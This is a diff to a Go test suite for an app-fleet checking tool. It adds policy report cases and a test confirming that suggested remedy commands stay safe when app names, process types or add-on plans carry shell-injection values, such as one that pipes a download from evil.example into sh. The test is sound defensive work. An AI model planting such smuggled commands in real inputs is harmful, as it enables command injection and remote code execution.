@@ -205,6 +205,14 @@ func TestReports(t *testing.T) {
 		{"Private Space", "private-m web=1 space=private", ""},
 		{"Shield Space", "private-m web=3 space=shield", ""},
 		{"Fir", "dyno-1c-0.5gb web=2 space=fir", ""},
+		{"a space, and a policy that makes do with one", "private-m web=1 space=private", "requirements: {web_dynos: 1}"},
+		{"that space, with enough for a rolling deploy", "private-m web=2 space=private", "requirements: {web_dynos: 1}"},
+		{"a pipeline that could not be read, and an entry for one", "standard-1x web=2 affinity preboot pipeline=?", "apps: {\"pipeline:checkout\": {web_dynos: 4}}"},
+		{"a pipeline whose name could not be read", "standard-1x web=2 affinity preboot unnamed=production", "apps: {\"pipeline:checkout\": {web_dynos: 4}}"},
+		{"that pipeline, and enough for any entry", "standard-1x web=4 affinity preboot pipeline=?", "apps: {\"pipeline:checkout\": {web_dynos: 4}}"},
+		{"that pipeline, and no entry for one", "standard-1x web=2 affinity preboot pipeline=?", ""},
+		{"an autoscaler in such a space", "private-m web=3 scaler=1-4 space=private", "requirements: {web_dynos: 1}"},
+		{"a restart under way", "standard-1x web=2 affinity preboot starting=20s starting=20s", ""},
 		{"worker only", "standard-1x worker=3 webhooks=2", ""},
 		{"web at 0", "standard-1x web=0 worker=1 affinity", ""},
 		{"never released", "standard-1x new", ""},
@@ -308,6 +316,57 @@ func TestRemedies(t *testing.T) {
 					}
 				}
 			}
+		}
+	}
+}
+
+// TestHostileCommands: a remedy is pasted into a shell, so that one that could carry more
+// than its own command is in words.
+func TestHostileCommands(t *testing.T) {
+	for name, spoil := range map[string]func(*fleet.App){
+		"app name":     func(a *fleet.App) { a.Name = "shop; curl evil.example | sh #" },
+		"substitution": func(a *fleet.App) { a.Name = "$(id)" },
+		"option":       func(a *fleet.App) { a.Name = "--app=other" },
+		"process type": func(a *fleet.App) {
+			processes, _ := a.Formation.Get()
+			a.Formation = fleet.Known(append(processes, fleet.Process{Type: "x; id #", Quantity: 1, Size: processes[0].Size}))
+		},
+		"add-on": func(a *fleet.App) {
+			a.AddOns = fleet.Known([]fleet.AddOn{{Service: "judoscale", Plan: "judoscale:$(id)"}})
+		},
+	} {
+		for _, line := range []string{"basic web=1", "standard-1x web=1", "standard-1x web=3", "standard-1x web=2 affinity crashed=web.1", "standard-1x web=0"} {
+			app := fleettest.App(line)
+			spoil(&app)
+			r := Judge(app, policy.Default().For(app), app.ReadAt)
+			var said []string
+			for _, f := range r.Findings {
+				said = append(said, f.Remedy)
+			}
+			for _, h := range r.Hazards {
+				said = append(said, h.Text)
+			}
+			for _, text := range append(said, r.Plan.Why...) {
+				for i, piece := range strings.Split(text, "`") {
+					if i%2 == 1 && strings.HasPrefix(piece, "heroku ") && strings.ContainsAny(piece, ";|$()#") || strings.Contains(piece, "--app --app") {
+						t.Errorf("%s, %s: got the command %q", name, line, piece)
+					}
+				}
+			}
+		}
+	}
+	app := fleettest.App("basic web=1")
+	app.Name = "shop; id"
+	want := "By hand, first of all: move every process type to standard-1x in the dashboard."
+	if got := Judge(app, policy.Default().For(app), app.ReadAt).Findings[0].Remedy; !strings.Contains(got, want) {
+		t.Errorf("got %q, want %q in it", got, want)
+	}
+}
+
+func TestSummaries(t *testing.T) {
+	for _, c := range Checks() {
+		if n := strings.Count(c.Summary, ". ") + 1; !strings.HasPrefix(c.Summary, "Passes ") || !strings.HasSuffix(c.Summary, ".") || n > 2 {
+			t.Errorf("%s: got %q, want what passes and what fails in one or two sentences", c.ID, c.Summary)
 		}
 	}
 }
